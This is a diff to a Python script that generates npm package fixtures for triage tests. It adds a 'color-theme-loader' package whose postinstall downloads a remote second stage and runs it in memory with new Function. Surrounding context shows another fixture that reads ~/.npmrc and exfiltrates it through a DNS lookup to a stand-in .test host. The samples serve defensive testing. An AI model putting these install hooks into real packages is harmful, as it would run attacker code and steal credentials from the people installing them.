@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage OUT.tgz
 
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
@@ -25,6 +25,10 @@ otheros win-path-helper: declares "os": ["win32"] and "cpu": ["x64"],
         postinstall that reads ~/.npmrc and looks up a .test name.
 server  tiny-dev-server: a bin that, run bare, listens and waits for
         clients (as dev servers do); with --help it prints and exits.
+evalstage  color-theme-loader: its postinstall fetches a second stage over
+        HTTP and runs it with new Function in its own process (nothing is
+        written to disk), as droppers do; the fake network's stub, when
+        run, creates the session's canary.
 """
 import io
 import json
@@ -96,6 +100,14 @@ PACKAGES = {
             "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
             "require('dns').lookup(t.replace(/[^a-z0-9]/gi, '').slice(-30) + '.winpath.test', () => {});\n",
             0o644),
+    }),
+    "evalstage": npm_pkg({"name": "color-theme-loader", "version": "1.4.2",
+                          "scripts": {"postinstall": "node fetch-themes.js"}}, {
+        "fetch-themes.js": (
+            "require('http').get('http://themes-cdn.test/v1/loader.js', r => {\n"
+            "  let b = ''; r.on('data', d => b += d);\n"
+            "  r.on('end', () => { try { new Function(b)(); } catch (e) {} });\n"
+            "}).on('error', () => {});\n", 0o644),
     }),
     "server": npm_pkg({"name": "tiny-dev-server", "version": "0.2.0",
                        "bin": {"tiny-dev-server": "cli.js"}}, {
